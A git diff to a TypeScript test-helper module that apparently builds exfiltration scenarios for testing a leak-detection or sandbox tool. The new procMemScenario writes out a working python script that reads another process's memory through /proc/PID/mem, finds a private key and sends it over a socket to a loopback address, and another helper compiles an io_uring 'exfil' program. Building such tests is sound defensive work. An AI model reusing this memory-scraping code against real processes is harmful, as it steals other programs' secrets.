@@ -1,6 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { packageDir } from '../util/package-dir.js';
 
 /**
  * Shell commands for live scenarios that more than one test runs (tests and
@@ -88,6 +89,42 @@ s.close()
 '`;
 }
 
+/**
+ * Another process' memory: a python3 "server" reads `file` and keeps it in
+ * memory; a second python3, which never opens `file`, finds it in the
+ * server's memory through /proc/PID/maps and /proc/PID/mem and sends it to
+ * 127.0.0.2:PORT. Prints the number of bytes found and sent.
+ */
+export function procMemScenario(file: string, port: number): string {
+  return `python3 -c 'import time; d = open("${file}", "rb").read(); time.sleep(5)' &
+v=$!
+sleep 0.5
+python3 -c '
+import socket, sys
+pid, found = int(sys.argv[1]), b""
+with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    for line in maps:
+        span, perms = line.split()[:2]
+        if not perms.startswith("rw"):
+            continue
+        lo, hi = (int(x, 16) for x in span.split("-"))
+        try:
+            mem.seek(lo)
+            chunk = mem.read(hi - lo)
+        except OSError:
+            continue
+        at = chunk.find(b"PRIVATE KEY-----\\n")
+        if at >= 0:
+            found = chunk[at:at + 64]
+            break
+s = socket.create_connection(("127.0.0.2", ${port}))
+s.sendall(found)
+s.close()
+print(len(found))
+' $v
+kill $v`;
+}
+
 /** A DNS-style leak: python3 reads `file` and sends part of it hex-encoded as a UDP datagram (a query name) to 127.0.0.2:PORT. */
 export function udpLeakScenario(file: string, port: number): string {
   return `python3 -c '
@@ -120,4 +157,18 @@ export function tlsServerScenario(dir: string, port: number): string {
     ].join('\n'),
   );
   return `python3 ${join(dir, 'server.py')} & sleep 1; curl -sk -m 10 https://127.0.0.2:${port}/ -o ${join(dir, 'got')}; wait`;
+}
+
+/**
+ * Builds src/testing/uring-exfil.c (a program that does its I/O through an
+ * io_uring ring; gcc and liburing-dev, which scripts/setup.sh installs) into
+ * `dir` and returns its path. Throws when it cannot: a test that needs it
+ * fails loudly.
+ */
+export function buildUringExfil(dir: string): string {
+  const src = packageDir('src', 'testing/uring-exfil.c');
+  if (src === undefined) throw new Error('src/testing/uring-exfil.c not found above this module');
+  const bin = join(dir, 'uring-exfil');
+  execFileSync('gcc', ['-O2', '-Wall', '-o', bin, join(src, 'testing/uring-exfil.c'), '-luring'], { stdio: 'pipe' });
+  return bin;
 }
